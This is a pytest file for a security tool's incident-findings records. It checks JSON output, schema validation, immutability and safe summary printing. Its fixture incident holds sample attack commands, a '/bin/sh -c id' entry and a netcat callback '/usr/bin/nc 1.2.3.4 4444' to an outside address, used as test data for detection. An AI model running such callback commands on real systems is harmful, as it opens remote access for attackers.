"""The findings records: frozen, JSON-ready, and valid against the packaged schema."""

from __future__ import annotations

import dataclasses
import json

import polars as pl
import pytest

from kernelsec_nb.findings import (
    Endpoint,
    Entry,
    Findings,
    Incident,
    KeyCommand,
    Lead,
    Reached,
    schema,
)


def _incident(**kw):
    base = dict(
        rank=1, confidence="high", why=["+ shell exec'd into the pod", "- runs in all replicas"],
        pod="web-1", namespace="shop", workload="web", node="n1",
        entry=Entry("e1", "/bin/sh", "-c id", trigger="POST /upload from 10.0.0.9"),
        key_command=KeyCommand("/usr/bin/nc", "1.2.3.4 4444", "e3", "connected out of the cluster"),
        chain=["e1", "e2", "e3"],
        reached=[Reached("db-0", "data", "n2", ["connect", "service"], ["e9"])],
        endpoints=[Endpoint("1.2.3.4", 4444, None, "callback")],
        techniques={"T1059.004": ["falco:Terminal shell in container"], "T1071": ["sigma:x"]},
        evidence=pl.DataFrame({"event_id": ["a", "b", "a", None], "x": [1, 2, 3, 4]}),
    )
    base.update(kw)
    return Incident(**base)


def _findings():
    return Findings([_incident(), _incident(rank=2, confidence="low", entry=None, key_command=None,
                                            evidence=pl.DataFrame())],
                    [Lead("job-1", "n1", "one admin command, no detection", exec_ids=["e7"], score=0.4)],
                    ["clock skew: n2 reads 0.5 s ahead"])


def test_to_dict_is_json_and_evidence_is_event_ids():
    d = _findings().to_dict()
    text = json.dumps(d)
    assert json.loads(text) == d
    inc = d["incidents"][0]
    assert inc["evidence"] == ["a", "b"]  # unique, in order, nulls dropped
    assert d["incidents"][1]["evidence"] == []  # a frame without event_id
    assert inc["reached"][0] == {"pod": "db-0", "namespace": "data", "node": "n2",
                                 "how": ["connect", "service"], "exec_ids": ["e9"]}
    assert inc["endpoints"][0]["role"] == "callback"
    assert list(inc["techniques"]) == ["T1059.004", "T1071"]
    assert d["leads"][0]["why_not"].startswith("one admin")


def test_records_are_frozen():
    with pytest.raises(dataclasses.FrozenInstanceError):
        _incident().rank = 3  # type: ignore[misc]


def test_to_json_escapes_control_characters_and_keeps_them():
    f = Findings([_incident(pod="web\u202e\r1")], [], [])
    text = f.to_json()
    assert "\\u202e" in text and "\r" not in text
    assert json.loads(text)["incidents"][0]["pod"] == "web\u202e\r1"


def _structural(d):
    """A check that needs no library: every required key of the schema is there."""
    s = schema()
    assert set(d) == set(s["required"])
    for kind, key in (("incident", "incidents"), ("lead", "leads")):
        req = set(s["$defs"][kind]["required"])
        assert all(set(x) == req for x in d[key])


def test_to_dict_validates_against_schema():
    d = _findings().to_dict()
    _structural(d)
    jsonschema = pytest.importorskip("jsonschema")
    jsonschema.validate(d, schema())
    jsonschema.validate(Findings([], [], []).to_dict(), schema())
    bad = json.loads(json.dumps(d))
    bad["incidents"][0]["confidence"] = "certain"
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.validate(bad, schema())
    bad = json.loads(json.dumps(d))
    bad["incidents"][0]["techniques"] = {"execution": []}
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.validate(bad, schema())


def test_summary_says_first_whether_there_is_an_incident():
    assert Findings([], [Lead("p", "n", "weight 1.0 below the threshold 3.5")], []).summary()[0] == "no incident; 1 lead(s)"
    lines = _findings().summary()
    assert lines[0] == "2 incident(s); 1 lead(s)"
    assert lines[1] == "#1 high: entered shop/web-1 on node n1"
    assert "  key command: /usr/bin/nc 1.2.3.4 4444 (connected out of the cluster)" in lines
    assert lines[-1] == "note: clock skew: n2 reads 0.5 s ahead"


def test_summary_names_a_host_not_none_and_prints_safely():
    """A part on a node's host (no pod) read 'None/None'; print(findings) dumped every field."""
    f = Findings([], [Lead(None, "n2", "weight 2.0 below the threshold 3.5"),
                      Lead("p\x1b[2J", "n1", "w", namespace="ns")], ["a note"])
    lines = f.summary()
    assert lines[1] == "lead: the host of node n2: weight 2.0 below the threshold 3.5"
    assert not any("None" in x for x in lines)
    assert "\x1b" not in str(f) and str(f).splitlines()[0] == "no incident; 2 lead(s)"
    assert repr(f).startswith("<Findings: 0 incident(s), 2 lead(s), 1 note(s)") and len(repr(f)) < 200


def test_summary_says_so_when_a_node_is_unknown():
    """A lead or reached pod without a node printed 'on None'."""
    lines = Findings([], [Lead("p", None, "weight 1.0 below the threshold 3.5", namespace="ns")], []).summary()
    assert lines[1] == "lead: ns/p on an unknown node: weight 1.0 below the threshold 3.5"
    assert not any("None" in x for x in lines)
